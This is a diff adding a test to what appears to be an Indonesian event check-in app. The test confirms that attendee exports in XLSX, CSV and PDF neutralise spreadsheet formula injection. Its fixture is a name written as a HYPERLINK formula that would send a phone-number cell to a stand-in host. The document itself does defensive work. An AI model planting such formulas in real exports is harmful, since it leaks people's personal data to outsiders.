@@ -125,3 +125,36 @@ async def test_signed_out_or_from_another_site_nobody_is_checked_in(door, db):
         unknown = await browser.get("/sesi/ZZZZ")
     assert forged.status_code == 403 and unknown.status_code == 404
     assert all(a.status != "attended" for a in await attendees(db, session.code))
+
+
+async def test_the_files_open_right_excel_csv_and_the_attendance_sheet(door, db):
+    import io
+
+    from openpyxl import load_workbook
+    from pypdf import PdfReader
+
+    app, session, codes = door
+    await villager(db, "4", '=HYPERLINK("http://x/?"&C3,"Klik")')  # a name as a formula
+    [sly] = await db.fetchall("SELECT id FROM people WHERE channel_user_id = '4'")
+    await register(db, session.code, sly["id"])
+    async with client(app) as browser:
+        await sign_in(browser, "budi")
+        await browser.post(f"/sesi/{session.code}/hadir", data={"booking": codes["Siti Aminah"]})
+        book = await browser.get(f"/sesi/{session.code}/peserta.xlsx")
+        table = await browser.get(f"/sesi/{session.code}/peserta.csv")
+        sheet = await browser.get(f"/sesi/{session.code}/daftar-hadir.pdf")
+    assert "attachment" in book.headers["content-disposition"]
+    page = load_workbook(io.BytesIO(book.content)).active
+    cells = {cell.value: cell for row in page.iter_rows() for cell in row if cell.value}
+    assert page["A1"].value == "Sesi" and page["B1"].value == "Sosialisasi paspor"
+    assert {"Nama", "Desa", "No. HP", "Kode booking", "Status", "Waktu hadir"} <= set(cells)
+    assert "hadir" in cells and "terdaftar" in cells and "daftar tunggu no. 1" in cells
+    formula = cells['=HYPERLINK("http://x/?"&C3,"Klik")']
+    assert formula.data_type == "s"  # text, not a live link
+    assert table.content.startswith("\ufeff".encode())
+    text = table.content.decode("utf-8-sig")
+    assert "Nama,Desa,No. HP,Kode booking,Status,Waktu hadir" in text
+    assert "'=HYPERLINK" in text and "Siti Aminah" in text
+    pdf = "".join(p.extract_text() for p in PdfReader(io.BytesIO(sheet.content)).pages)
+    assert "DAFTAR HADIR" in pdf and "Tanda tangan" in pdf
+    assert "Siti Aminah" in pdf and "Wati Sule" in pdf and codes["Andi Lamato"] in pdf
